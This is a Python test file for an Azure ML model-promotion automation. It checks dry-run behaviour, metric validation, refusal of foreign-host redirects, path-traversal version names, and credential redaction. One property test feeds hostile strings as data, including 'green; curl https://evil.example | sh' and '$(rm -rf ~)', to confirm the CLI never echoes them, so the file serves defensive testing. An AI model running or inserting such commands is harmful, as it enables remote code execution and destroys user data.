    # The ledger says the app made churn-batch-1; a person replaced it with one of their own.
    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    apps = endpoint.deployments["churn-batch-1"]["systemData"]
    _persons_deployment(papp, "churn-batch-1")

    def another(body: dict[str, Any]) -> None:
        # Listed here, an answer about the app's deployment of that name on another endpoint.
        for item in body["value"]:
            if item["name"] == "churn-batch-1":
                item["id"] = f"{scene.DEV}/batchEndpoints/churn-batch/deployments/churn-batch-1"
                item["systemData"] = apps

    if listed_as_another:
        papp.sim.rewrite_reply("ml.batch_deployment.list", another, times=5)
    _, event = _completed(papp, accuracy=0.95)
    _deliver(papp, event)

    assert _default(papp) == "churn-batch-3"
    assert "churn-batch-1" in _deployments(papp)
    assert [a for a in _actions("model") if a["Verdict"] == "delete-deployment"] == []
    assert papp.sim.count("ml.batch_deployment.delete") == 0


def test_a_refused_delete_is_recorded_and_the_promotion_stands(papp: App) -> None:
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    rbac: Permissions = papp.sim.permissions
    saved = set(rbac.granted)
    rbac.revoke([f"{M}/batchEndpoints/deployments/delete"])
    try:
        for accuracy in (0.85, 0.90, 0.95):
            _, event = _completed(papp, accuracy=accuracy)
            _deliver(papp, event)
    finally:
        rbac.granted = saved
    assert _default(papp) == "churn-batch-3"
    assert "churn-batch-1" in _deployments(papp)
    [refused] = [a for a in _actions("model") if a["Verdict"] == "delete-deployment"]
    assert refused["Outcome"].startswith("failed: ")
    assert "AuthorizationFailed" in refused["Outcome"]
    assert _scored_on(papp)[-1] == "churn-batch-3"
    assert _outcome(event["id"]) == "scoring-started"


# ------------------------------------------------------------------------- dry-run


def test_dry_run_shows_the_decision_and_writes_nothing(papp: App) -> None:
    _, event = _completed(papp, accuracy=0.9)
    papp.set_settings(**rs.retraining_settings(**PROMOTION, AUTOMATION_MODE="dry-run"))
    _deliver(papp, event)

    # Nothing is sent but reads (the metric service's POST is one).
    assert [r.route for r in papp.sim.writes() if r.route != "eventgrid.publish"] == []
    assert papp.sim.count("ml.run.metric") == 1
    assert _default(papp) == "blue"
    [plan] = _actions("model")
    assert plan["Outcome"] == "planned (dry-run)"
    evidence = json.loads(plan["Evidence"])
    assert (evidence["deployment"], evidence["model"], evidence["previous"]) == (
        "churn-batch-1",
        "churn-model:1",
        "blue",
    )
    [scoring] = _actions("batch-scoring")
    assert json.loads(scoring["Evidence"])["deployment"] == "churn-batch-1"
    # No claim either: a dry-run decides again on every delivery.
    assert Claims(runtime().ledger.table).promotions(scene.PROD) == []


def test_dry_run_carries_no_promotion_on_from_a_step_an_enforced_delivery_left(
    papp: App,
) -> None:
    event = _switch_failed(papp)  # enforced
    papp.set_settings(**rs.retraining_settings(**PROMOTION, AUTOMATION_MODE="dry-run"))
    papp.sim.reset_counts()

    _deliver(papp, event)  # Event Grid's redelivery, now in dry-run

    assert [r.route for r in papp.sim.writes() if r.route != "eventgrid.publish"] == []
    assert _default(papp) == "blue"
    assert papp.sim.ml.scoring_posts == []
    [claim] = Claims(runtime().ledger.table).promotions(scene.PROD)
    assert claim.state == "deploying"  # left where the enforced delivery left it
    # The plan says so: the promotion would carry on, and score on its deployment.
    plan = _actions("model")[0]
    assert (plan["Outcome"], plan["Verdict"]) == ("planned (dry-run)", "promote")
    assert plan["Reason"].endswith("from its step deploying")
    [scoring] = _actions("batch-scoring")
    assert scoring["Outcome"] == "planned (dry-run)"
    assert json.loads(scoring["Evidence"])["deployment"] == "churn-batch-1"


# ------------------------------------------- requests and tokens only where settings point


def test_a_child_run_list_whose_next_link_leaves_arm_is_refused_and_nothing_promoted(
    papp: App,
) -> None:
    _, event = _completed(papp, accuracy=0.9)
    papp.sim.inject_reply(
        "ml.run.children",
        body={"value": [], "nextLink": papp.sim.foreign_url + "/history/v1.0/x/children"},
    )
    _deliver(papp, event)
    assert papp.sim.requests_to("localhost") == []  # the foreign origin got nothing
    [failed] = _actions("model")
    assert failed["Outcome"].startswith("failed: ForeignEndpointError")
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.model.version.put") == 0
    assert _scored_on(papp) == [None]  # not promoted: scored on the current one


@pytest.mark.parametrize("route", ["ml.batch_deployment.get", "ml.model.version.get"])
def test_a_redirect_of_a_promotion_read_to_another_host_is_refused(papp: App, route: str) -> None:
    _, event = _completed(papp, accuracy=0.9)
    papp.sim.inject_reply(
        route,
        status=307,
        headers={"Location": papp.sim.foreign_url + scene.PROD + "/models"},
        times=5,
    )
    _deliver(papp, event)
    assert papp.sim.requests_to("localhost") == []
    assert _default(papp) == "blue"
    assert "SynapseAmlAutomation.Model.Promote.Failed" in _published(papp)


@given(
    value=st.one_of(
        st.floats().map(repr),
        LOOKALIKE_NUMBERS,
        st.integers(2**1000, 10**400) | st.integers(-(10**400), -(2**1000)),
        st.none() | st.booleans() | st.text(max_size=8) | st.lists(st.integers(), max_size=2),
    )
)
def test_a_metric_value_is_a_finite_number_written_in_ascii_or_none(value: object) -> None:
    found = metric_value(value)
    ascii_number = isinstance(value, str) and value.isascii() and "_" not in value
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) >= 2**1024:
        assert found is None, "past any float"
    elif isinstance(value, str) and not ascii_number:
        assert found is None, "not a number Azure writes"
    elif found is not None:
        assert math.isfinite(found)
        assert found == (float(value) if isinstance(value, str | int) else None)


# Arabic-Indic 0.99 and 0.1 (which float() reads): the current one would be promoted over.
@pytest.mark.parametrize(
    ("route", "value", "reason"),
    [
        ("ml.run.metric", 10**400, "the retraining job logged no finite"),
        ("ml.run.metric", "\u0660.\u0669\u0669", "the retraining job logged no finite"),
        ("ml.model.version.get", -(10**400), "the current default's model has no finite"),
        ("ml.model.version.get", "\u0660.\u0661", "the current default's model has no finite"),
    ],
    ids=["huge-candidate", "arabic-candidate", "huge-current", "arabic-current"],
)
def test_a_metric_past_any_float_or_in_other_digits_is_no_metric(
    papp: App, route: str, value: object, reason: str
) -> None:
    def rewrite(body: dict[str, Any]) -> None:
        for item in body["value"] if route == "ml.run.metric" else [body["properties"]]:
            item["data" if route == "ml.run.metric" else "properties"]["accuracy"] = value

    _, event = _completed(papp, accuracy=0.95)
    papp.sim.rewrite_reply(route, rewrite)
    _deliver(papp, event)

    [skipped] = _actions("model")
    assert skipped["Reason"].startswith(reason)
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.model.version.put") == 0


def test_a_malformed_metric_answer_is_recorded_not_raised(papp: App) -> None:
    _, event = _completed(papp, accuracy=0.9)
    papp.sim.inject_reply("ml.run.metric", body=["not", "an", "object"])
    _deliver(papp, event)
    [failed] = _actions("model")
    assert failed["Outcome"].startswith("failed: ")
    assert _default(papp) == "blue"


# ------------------------------------- the candidate's metric: its job's steps, of that metric

JOB = "retrain-job-1"
STEP = f"{JOB}_train"  # the step run `log_metric` logs in
# Characters that look like (or fold onto) an ASCII letter of the names below.
_CONFUSABLES = {"a": "\u0430", "c": "\u0441", "e": "\u0435", "i": "\u0131", "r": "\u0433"}


def _lookalikes(value: str) -> st.SearchStrategy[object]:
    """`value` as an answer could carry it, and lookalikes: another case, whitespace, a prefix or
    suffix, a confusable letter, another name, empty; none at all, or not a string."""
    confusable = st.sampled_from([i for i, c in enumerate(value) if c in _CONFUSABLES]).map(
        lambda i: value[:i] + _CONFUSABLES[value[i]] + value[i + 1 :]
    )
    tails = st.text("abz-_.0/ ", min_size=1, max_size=4)
    return st.one_of(
        st.sampled_from([value, value.upper(), value.title(), value + "\n", "other", "", None, 7]),
        tails.map(lambda tail: value + tail),
        tails.map(lambda tail: tail + value),
        confusable,
    )


def _rewrite_children(field: str, value: object) -> Any:
    """A rewrite of run history's child runs: each one's `field` is `value` (None: absent)."""

    def rewrite(body: dict[str, Any]) -> None:
        for child in body["value"]:
            child.pop(field)
            if value is not None:
                child[field] = value

    return rewrite


def _job_metric(app: App) -> float | None:
    app.sim.ml.promotion.log_metric(scene.PROD, JOB, "accuracy", 0.9)
    app.sim.reset_counts()
    return runtime().promotion_adapter.job_metric(ArmId(scene.PROD), JOB, "accuracy")


def _metric_reads(app: App) -> list[str]:
    return [r.path for r in app.sim.requests if r.path.startswith("/metric/")]


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parent=_lookalikes(JOB))
def test_only_the_jobs_own_child_runs_give_its_metric(papp: App, parent: object) -> None:
    # Run history answers with child runs of another run: their metric is not this job's.
    papp.sim.rewrite_reply("ml.run.children", _rewrite_children("parentRunId", parent))
    if isinstance(parent, str) and parent.isascii() and parent.lower() == JOB.lower():
        assert _job_metric(papp) == 0.9
    else:
        with pytest.raises(UnexpectedAnswerError, match=f"asked for child runs of {JOB}"):
            _job_metric(papp)
        assert _metric_reads(papp) == []


def _plain(run_id: object) -> bool:
    """What Azure ML takes for a name: ASCII letters, digits and `-_.`, a letter or digit first."""
    if not isinstance(run_id, str) or not 0 < len(run_id) <= 255 or not run_id.isascii():
        return False
    return run_id[0].isalnum() and all(c.isalnum() or c in "-_." for c in run_id)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    run_id=st.one_of(
        _lookalikes(STEP),
        st.sampled_from([".", "..", "../runs/x", "a/b", "x?y", "x#y", "x%2Fy", "-x", "x" * 256]),
        st.text(max_size=8),
    )
)
def test_a_child_run_id_becomes_a_metric_url_only_when_a_plain_name(
    papp: App, run_id: object
) -> None:
    papp.sim.rewrite_reply("ml.run.children", _rewrite_children("runId", run_id))
    if _plain(run_id):  # read: the step's own (in any case, as Azure ML) has its metric
        same = isinstance(run_id, str) and run_id.lower() == STEP.lower()
        assert _job_metric(papp) == (0.9 if same else None)
    else:
        with pytest.raises(UnexpectedAnswerError, match=f"a child run of {JOB} has ID"):
            _job_metric(papp)
        assert _metric_reads(papp) == []


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=_lookalikes("accuracy"))
def test_only_an_answer_about_the_metric_asked_for_gives_its_value(papp: App, name: object) -> None:
    # Metric names are case-sensitive: `Accuracy` is another metric than `accuracy`.
    def rewrite(body: dict[str, Any]) -> None:
        body.pop("name")
        if name is not None:
            body["name"] = name

    papp.sim.rewrite_reply("ml.run.metric", rewrite)
    if name in ("accuracy", None):  # None: no `name` (optional in the schema): values by their key
        assert _job_metric(papp) == 0.9
    else:
        with pytest.raises(UnexpectedAnswerError, match=f"metric accuracy of {STEP}"):
            _job_metric(papp)


@pytest.mark.parametrize(
    ("route", "field", "answered"),
    [("ml.run.children", "parentRunId", "another-job"), ("ml.run.metric", "name", "auc")],
)
def test_a_metric_answered_about_another_run_or_metric_promotes_nothing(
    papp: App, route: str, field: str, answered: str
) -> None:
    def rewrite(body: dict[str, Any]) -> None:
        for item in body["value"] if route == "ml.run.children" else [body]:
            item[field] = answered

    _, event = _completed(papp, accuracy=0.95)
    papp.sim.rewrite_reply(route, rewrite)
    _deliver(papp, event)

    [failed] = _actions("model")
    assert failed["Outcome"].startswith("not applied: ")
    assert answered in failed["Outcome"]
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.model.version.put") == 0
    assert _scored_on(papp) == [None]  # not promoted: scored on the current one
    # The same requests as any promotion's evaluation: one child list, at most one metric read.
    assert papp.sim.count("ml.run.children") == 1
    assert papp.sim.count("ml.run.metric") == (route == "ml.run.metric")


# ------------------------------------------------- the current model is this workspace's


def test_a_model_read_answering_another_model_promotes_nothing(papp: App) -> None:
    def another(body: dict[str, Any]) -> None:
        body["id"] = f"{scene.DEV}/models/drift-model/versions/2"
        body["properties"]["properties"] = {"accuracy": "0.1"}

    papp.sim.rewrite_reply("ml.model.version.get", another)
    _, event = _completed(papp, accuracy=0.5)
    _deliver(papp, event)

    [failed] = _actions("model")
    assert failed["Outcome"].startswith(f"not applied: asked for model {CURRENT_MODEL}")
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.batch_deployment.put") == 0


_NOT_OBJECTS = st.recursive(
    st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3),
    max_leaves=4,
)
# The model version's own `properties` hold its metric; the default deployment's `properties`
# are the new deployment's spec (read by `serving`, then again to copy it).
_READS = {
    "ml.model.version.get": ("properties", "properties"),
    "ml.batch_deployment.get": ("properties",),
}


def _rewriting(app: App, route: str, value: object) -> None:
    *inside, last = _READS[route]

    def rewrite(body: dict[str, Any]) -> None:
        for name in inside:
            body = body[name]
        body[last] = value

    app.sim.rewrite_reply(route, rewrite)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(route=st.sampled_from(sorted(_READS)), value=_NOT_OBJECTS)
def test_a_current_model_or_deployment_that_is_no_object_is_a_malformed_answer(
    papp: App, route: str, value: object
) -> None:
    _rewriting(papp, route, value)
    adapter, endpoint = runtime().promotion_adapter, ArmId(rs.ENDPOINT)
    read = (
        functools.partial(adapter.serving, ArmId(scene.PROD), endpoint)
        if route == "ml.model.version.get"
        else functools.partial(adapter.deployment, endpoint, "blue")
    )
    with pytest.raises(MalformedResponseError, match=f": a {type(value).__name__}, not an object"):
        read()


@pytest.mark.parametrize("route", sorted(_READS))
def test_a_malformed_current_model_or_deployment_is_recorded_and_changes_nothing(
    papp: App, route: str
) -> None:
    _, event = _completed(papp, accuracy=0.95)
    if route == "ml.batch_deployment.get":
        papp.sim.rewrite_reply(route, lambda body: None)  # `serving`'s read
    _rewriting(papp, route, ["0.1"])
    _deliver(papp, event)

    [failed] = _actions("model")
    assert failed["Outcome"].startswith("failed: MalformedResponseError: ")
    assert failed["Outcome"].endswith("properties: a list, not an object")
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.batch_deployment.put") == 0


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    workspace=LOOKALIKE_WORKSPACES,
    model=st.sampled_from(["/models/drift-model/versions/2", "/models/drift-model/versions/2/x"]),
)
def test_only_a_model_version_of_this_workspace_is_read_as_the_current_model(
    papp: App, workspace: str, model: str
) -> None:
    this = workspace.lower() == scene.PROD.lower()
    if not this:  # another's model of the same name (this one's has accuracy 0.80)
        papp.sim.ml.promotion.add_model_version(
            workspace, "drift-model", "2", properties={"accuracy": "0.1"}
        )
    _serve_model(papp, workspace + model)

    _, _, found = runtime().promotion_adapter.serving(ArmId(scene.PROD), ArmId(rs.ENDPOINT))

    ours = this and model.endswith("/2")
    assert found.get("properties", {}).get("accuracy") == "0.80" if ours else found == {}


def test_a_model_answered_for_another_registers_no_version(papp: App) -> None:
    # churn-model is at version 7 here; asked for it, ARM answers with another workspace's.
    papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "7", properties={})

    def another(body: dict[str, Any]) -> None:
        body["id"] = f"{scene.DEV}/models/churn-model"
        body["properties"] |= {"latestVersion": "1", "nextVersion": "2"}

    papp.sim.rewrite_reply("ml.model.get", another)
    _, event = _completed(papp, accuracy=0.95)
    _deliver(papp, event)

    [failed] = _actions("model")
    assert failed["Outcome"].startswith(f"not applied: asked for model churn-model of {scene.PROD}")
    assert sorted(papp.sim.ml.promotion.model_versions(scene.PROD, "churn-model")) == ["7"]
    assert papp.sim.count("ml.batch_deployment.put") == 0
    assert _default(papp) == "blue"


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    workspace=LOOKALIKE_WORKSPACES,
    model=st.sampled_from(
        ["/models/churn-model", "/models/churn-model/versions/7", "/models/other", None]
    ),
)
def test_only_this_workspaces_model_gives_the_next_version(
    papp: App, workspace: str, model: str | None
) -> None:
    papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "7", properties={})
    answered = None if model is None else workspace + model

    def rewrite(body: dict[str, Any]) -> None:
        body.pop("id")
        if answered is not None:
            body["id"] = answered

    papp.sim.rewrite_reply("ml.model.get", rewrite)
    read = functools.partial(
        runtime().promotion_adapter.model_versions, ArmId(scene.PROD), "churn-model"
    )

    if answered is not None and answered.lower() == f"{scene.PROD}/models/churn-model".lower():
        assert read() == ("7", "8")
    else:
        with pytest.raises(UnexpectedAnswerError):
            read()


_VERSION_VALUES = st.one_of(
    st.none(), st.text(max_size=3), st.integers(), st.floats(), st.booleans(), st.lists(st.text())
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(latest=_VERSION_VALUES, hint=_VERSION_VALUES)
def test_an_existing_models_versions_are_text_or_its_answer_is_malformed(
    papp: App, latest: object, hint: object
) -> None:
    papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "7", properties={})

    def rewrite(body: dict[str, Any]) -> None:
        body["properties"] |= {"latestVersion": latest, "nextVersion": hint}

    papp.sim.rewrite_reply("ml.model.get", rewrite)
    read = functools.partial(
        runtime().promotion_adapter.model_versions, ArmId(scene.PROD), "churn-model"
    )

    given_ = [value for value in (latest, hint) if value is not None]
    if all(isinstance(value, str) for value in given_) and any(given_):
        assert read() == (latest or None, hint or None)
    else:  # not "a new model" (version 1): it has versions, unreadable ones
        with pytest.raises(MalformedResponseError, match=r"model churn-model of .*: versions "):
            read()


def test_versions_answered_as_numbers_register_no_version(papp: App) -> None:
    papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "1", properties={})
    papp.sim.rewrite_reply(
        "ml.model.get", lambda body: body["properties"].update(latestVersion=1, nextVersion=2)
    )
    _, event = _completed(papp, accuracy=0.95)
    _deliver(papp, event)

    [failed] = _actions("model")
    assert failed["Outcome"].startswith("failed: MalformedResponseError: ")
    assert papp.sim.count("ml.model.version.put") == 0
    assert _default(papp) == "blue"


# ------------------------------------------- the current metric: the app's record or a property


def _user_writes(app: App, model: str, metric: str, value: str | None) -> None:
    """A workspace user writes `value` into `metric`, a property of model version `model`
    (`name:version`) of PROD; None: removes it."""
    name, version = model.split(":")
    with app.sim.ml.lock:
        versions = app.sim.ml.promotion.models[(key(scene.PROD), name)]
        properties = versions[version]["properties"]["properties"]
        properties.pop(metric, None)
        if value is not None:
            properties[metric] = value


def _decided(app: App, event: dict[str, Any]) -> dict[str, Any]:
    """The promotion decision one more delivery of `event` (a new ID) records."""
    before = {a["RowKey"] for a in _actions("model")}
    _deliver(app, {**event, "id": str(uuid.uuid4())})
    [decided] = [
        a for a in _actions("model") if a["RowKey"] not in before and a["Verdict"] == "promote"
    ]
    return decided


@pytest.fixture
def recorded(papp: App) -> tuple[str, dict[str, Any]]:
    """The app promoted churn-model:1 with accuracy 0.9 (its ledger records it); another
    retraining job then completed, logging nothing yet: its completion, decided in dry-run (which
    claims nothing, so each delivery decides afresh)."""
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    _, event = _completed(papp, accuracy=0.9)
    _deliver(papp, event)
    assert _default(papp) == "churn-batch-1"
    job, event = _completed(papp)
    papp.set_settings(**rs.retraining_settings(**PROMOTION, AUTOMATION_MODE="dry-run"))
    return job, event


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    written=st.one_of(
        st.none(),
        st.floats().map(str),
        st.text(max_size=12),
        st.sampled_from(["0", "0.89", "0.95", "1", "-1e308", "1e308", "nan", "inf", "-inf"]),
    ),
    candidate=st.one_of(st.floats(min_value=0, max_value=1), st.sampled_from([0.9, 0.95])),
)
def test_the_current_metric_of_the_apps_promoted_model_is_the_one_it_recorded(
    papp: App, recorded: tuple[str, dict[str, Any]], written: str | None, candidate: float
) -> None:
    """A model's properties are any workspace user's to write: whatever they write into the
    promoted model's metric, the next decision compares the candidate with the app's 0.9."""
    job, event = recorded
    _user_writes(papp, "churn-model:1", "accuracy", written)
    papp.sim.ml.promotion.log_metric(scene.PROD, job, "accuracy", candidate)

    decided = _decided(papp, event)

    planned = decided["Outcome"] == "planned (dry-run)"
    assert planned == (candidate > 0.9), decided["Reason"]
    evidence = json.loads(decided["Evidence"])
    assert (evidence["candidate"], evidence["current"]) == (candidate, 0.9)
    assert evidence["current_from"].startswith("ledger: the promotion after ")


@pytest.mark.parametrize(
    ("state", "named"),
    [
        ("claimed", {"Version": "../../../x"}),  # the model version's PUT: the workspace's path
        ("claimed", {"Version": "1/../../../x"}),
    ],
)
def test_a_promotion_row_naming_what_is_not_a_name_writes_nothing(
    papp: App, state: str, named: dict[str, str]
) -> None:
    """A promotion row under way, left by another delivery (or written by anyone with table
    access), is carried on from its step: what it names becomes URL segments of the writes. One
    naming a path (`..`) ends the promotion, failed, and nothing is written but the scoring."""
    name, event = _completed(papp, accuracy=0.95)
    row = {"State": state, "Version": "1", "Deployment": "churn-batch-1", "Previous": "blue"}
    row |= {"RetrainingJob": name, "ClaimedAt": "2026-01-01T00:00:00+00:00", "Trigger": "t"}
    claims = Claims(runtime().ledger.table)
    keys = {"PartitionKey": actions_partition(scene.PROD, "claims"), "RowKey": f"promotion:{name}"}
    runtime().ledger.table.upsert_entity(keys | row | named)

    _deliver(papp, event)

    writes = [r.route for r in papp.sim.writes() if r.route != "eventgrid.publish"]
    assert writes == ["ml.scoring.invoke"]
    [claim] = claims.promotions(scene.PROD)
    assert claim.state == "failed"


@pytest.mark.parametrize("detail", ["[" * 30000, '{"a":' * 6000])
def test_a_promotion_row_whose_detail_is_unreadable_gives_no_current_metric(
    papp: App, recorded: tuple[str, dict[str, Any]], detail: str
) -> None:
    """The ledger's record of the promotion is anyone's with table access to edit: a Detail
    nested past the parser's depth is no record (the model's property is read), never a
    RecursionError that fails the event until it dead-letters."""
    table = runtime().ledger.table
    [row] = [dict(r) for r in table.query_entities("State eq 'switched'")]
    table.upsert_entity(row | {"Detail": detail})
    _, event = recorded

    decided = _decided(papp, event)

    evidence = json.loads(decided["Evidence"])
    assert (
        evidence["current_from"] == f"model property ({scene.PROD}/models/churn-model/versions/1)"
    )


@pytest.mark.parametrize(
    ("after", "served", "metric"),
    [
        ("nothing", "drift-model:2", "accuracy"),  # blue, a person's: no promotion yet
        ("switched back", "drift-model:2", "accuracy"),  # a person made blue the default again
        ("another model", "drift-model:2", "accuracy"),  # the app's deployment, re-pointed
        ("another metric", "churn-model:1", "auc"),  # PROMOTION_METRIC changed since
    ],
)
def test_the_current_metric_of_a_default_not_the_apps_is_its_models_property(
    papp: App, after: str, served: str, metric: str
) -> None:
    """Nothing but the property says what a person's default scores: it is read (0.6 here, not
    the app's 0.9), and the evidence says where the figure came from."""
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    if after != "nothing":
        _, event = _completed(papp, accuracy=0.9)
        _deliver(papp, event)  # the app promoted churn-model:1, recording 0.9
    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    if after == "switched back":
        endpoint.default_deployment = "blue"
    elif after == "another model":
        model = {"referenceType": "Id", "assetId": CURRENT_MODEL}
        endpoint.deployments["churn-batch-1"]["properties"]["model"] = model
    changed = {**PROMOTION, "PROMOTION_METRIC": metric, "RETRAIN_COOLDOWN_MINUTES": "0"}
    papp.set_settings(**rs.retraining_settings(**changed))
    _user_writes(papp, served, metric, "0.6")
    _, event = _completed(papp, **{metric: 0.7})

    decided = _decided(papp, event)

    evidence = json.loads(decided["Evidence"])
    assert (evidence["candidate"], evidence["current"]) == (0.7, 0.6)
    name, version = served.split(":")
    asset = f"{scene.PROD}/models/{name}/versions/{version}"
    assert evidence["current_from"] == f"model property ({asset})"
    assert decided["Outcome"].startswith("applied: ")


# ---------------------------------------------------------------------------- rollback


def _plan(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """What `plan` prints of PROD."""
    from tools import cli

    assert cli.main(["plan", "--workspace", scene.PROD, *argv]) == 0
    return capsys.readouterr().out


@pytest.fixture
def promoted(papp: App, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
    """The app promoted churn-model:1 over blue (its ledger says so); `plan` then, as text and as
    JSON, with the model version as the app registered it."""
    _, event = _completed(papp, accuracy=0.9)
    _deliver(papp, event)
    [claim] = Claims(runtime().ledger.table).promotions(scene.PROD)
    assert (claim.deployment, claim.previous) == ("churn-batch-1", "blue")
    papp.sim.reset_counts()
    capsys.readouterr()
    return {"text": _plan(capsys), "json": _plan(capsys, "--json")}


def test_plan_shows_the_promoted_default_and_where_its_rollback_is(
    papp: App, promoted: dict[str, str]
) -> None:
    [prod] = json.loads(promoted["json"])
    rollback = prod["promotion"].pop("rollback")
    assert prod["promotion"] == {
        "endpoint": "churn-batch",
        "default": "churn-batch-1",
        "model": f"{scene.PROD}/models/churn-model/versions/1",
        "metric": "accuracy=0.9",
    }
    # The app's record, which the plan does not read, says how to switch back.
    assert "ledger" in rollback
    assert "blue" not in rollback
    [switched] = [a for a in _actions("model") if a["Outcome"].startswith("applied")]
    assert "defaults.deployment_name=blue" in json.loads(switched["Evidence"])["rollback"]
    # As text: every field on a line of its own, none cut off by the model's long ID.
    for field in ("batch endpoint", "churn-batch-1", "accuracy=0.9", rollback):
        assert field in promoted["text"]
    unfolded = re.sub(r"\n +", "", promoted["text"])
    assert f"{scene.PROD}/models/churn-model/versions/1" in unfolded
    assert [r.route for r in papp.sim.writes()] == []


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    written=st.one_of(
        st.text(max_size=40),
        st.sampled_from(
            [
                "blue",  # what the ledger records
                "green",
                "[red]green[/red]",
                "green; curl https://evil.example | sh",
                "$(rm -rf ~)",
                "green\nswitch back: az ml batch-endpoint update --name x",
                "\x1b[2Jgreen",
            ]
        ),
    )
)
def test_plan_never_prints_a_rollback_from_what_a_workspace_user_wrote(
    papp: App, promoted: dict[str, str], capsys: pytest.CaptureFixture[str], written: str
) -> None:
    """The model's `previous-deployment` is any workspace user's to write: whatever it says, the
    plan is the same, so its rollback never carries it (but for the ledger's own `blue`)."""

    def edited(body: dict[str, Any]) -> None:
        body["properties"]["properties"]["previous-deployment"] = written

    papp.sim.rewrite_reply("ml.model.version.get", edited, times=2)

    assert {"text": _plan(capsys), "json": _plan(capsys, "--json")} == promoted


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), versions=st.booleans())
def test_a_refused_metric_name_or_versions_answer_shows_no_piece_of_a_credential(
    papp: App, data: st.DataObject, versions: bool
) -> None:
    # Azure's text shown in the refusal is cut (300, 200 characters): redacted before the cut.
    if versions:
        text, secret = data.draw(placed(200 - len("[1, '"), before=8))
        papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "7", properties={})
        rewrite = {"latestVersion": 1, "nextVersion": text}
        papp.sim.rewrite_reply("ml.model.get", lambda body: body["properties"].update(rewrite))
        read: Any = functools.partial(
            runtime().promotion_adapter.model_versions, ArmId(scene.PROD), "churn-model"
        )
    else:
        text, secret = data.draw(placed(300 - len("'"), before=8))
        papp.sim.rewrite_reply("ml.run.metric", lambda body: body.update(name=text))
        read = functools.partial(_job_metric, papp)
    with pytest.raises((UnexpectedAnswerError, MalformedResponseError)) as raised:
        read()
    assert leaked(secret, redacted(str(raised.value))) is None, str(raised.value)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_child_runs_refused_id_shows_no_piece_of_a_credential(
    papp: App, data: st.DataObject
) -> None:
    # Repeated cut to 100 characters in the refusal, then the ledger's reason and the log.
    run_id, secret = data.draw(placed(100, before=8))
    papp.sim.rewrite_reply("ml.run.children", _rewrite_children("runId", run_id))
    with pytest.raises(UnexpectedAnswerError) as raised:
        _job_metric(papp)
    # Every sink (ledger, log, output) redacts it: what the cut let through is what shows.
    assert leaked(secret, redacted(str(raised.value))) is None, str(raised.value)
